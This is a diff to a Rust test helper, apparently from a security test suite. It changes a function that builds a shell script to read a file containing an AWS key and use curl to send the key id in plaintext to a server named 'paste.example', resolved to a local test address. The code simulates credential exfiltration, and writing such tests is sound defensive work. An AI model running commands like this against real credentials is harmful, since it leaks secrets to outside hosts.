@@ -170,10 +170,12 @@ pub fn aws_credentials(directory: &Path, key_id: &str, secret: &str) -> Result<P
     Ok(path)
 }
 
-/// Has a shell read a file with an AWS key, and curl present the key at an address, in plaintext.
+/// Has a shell read a file with an AWS key, and curl present the key at an address, in plaintext, to a
+/// server that calls itself `paste.example`.
 pub fn present_aws_key(file: &Path, key_id: &str, address: SocketAddr) -> Result<()> {
+    let (ip, port) = (address.ip(), address.port());
     let script = format!(
-        "cat '{}' >/dev/null; curl -s -o /dev/null -H 'Authorization: AWS4-HMAC-SHA256 Credential={key_id}/20261123/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=00' 'http://{address}/'",
+        "cat '{}' >/dev/null; curl -s -o /dev/null --resolve paste.example:{port}:{ip} -H 'Authorization: AWS4-HMAC-SHA256 Credential={key_id}/20261123/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=00' 'http://paste.example:{port}/'",
         file.display()
     );
     sh(&script, &[]).map(drop)
